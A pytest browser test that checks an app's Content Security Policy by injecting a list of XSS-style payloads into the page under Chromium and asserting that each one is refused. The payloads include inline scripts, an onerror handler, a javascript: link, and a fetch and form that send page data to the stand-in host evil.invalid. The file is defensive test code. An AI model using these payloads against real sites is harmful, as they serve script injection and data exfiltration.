"""The content policy of the app, as Chromium holds to it."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.chromium.drawn import settled

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings("ignore::ResourceWarning")]

ATTACKS = {
    "a script": "add('script', {textContent: 'ran = 1'})",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"ran = 1\">')",
    "an address": "add('a', {href: 'javascript:ran = 1'}).click()",
    "text": "setTimeout('ran = 1', 0)",
    "a blob": "add('script', {src: URL.createObjectURL(new Blob(['ran = 1']))})",
    "a script of others": "add('script', {src: 'https://evil.invalid/x.js'})",
    "a frame": "add('iframe', {src: location})",
    "a call": "fetch('https://evil.invalid/?what=' + document.title).catch(() => 0)",
    "a form": "add('form', {action: 'https://evil.invalid/'}).submit()",
    "a base": "add('base', {href: 'https://evil.invalid/'})",
}
"""What somebody who could put HTML into the page would have it do."""


ADD = """self.add = (tag, what) => {
  const made = Object.assign(document.createElement(tag), what)
  document.body.append(made)
  return made
}"""


def test_page__runs_nothing_that_is_put_into_it(visit: Callable, app: str) -> None:
    seen = visit(app)
    settled(seen.page)
    assert seen.errors == []
    seen.page.evaluate(ADD)
    for name, attack in ATTACKS.items():
        seen.page.evaluate(f"() => {{ {attack} }}")
        seen.page.wait_for_timeout(100)
        assert any("policy: " in said for said in seen.errors), name
        seen.errors.clear()
        assert seen.page.evaluate("() => self.ran === undefined")
    assert seen.page.url.startswith(app)
    seen.errors.clear()
    seen.requests.clear()  # those that were refused are among them
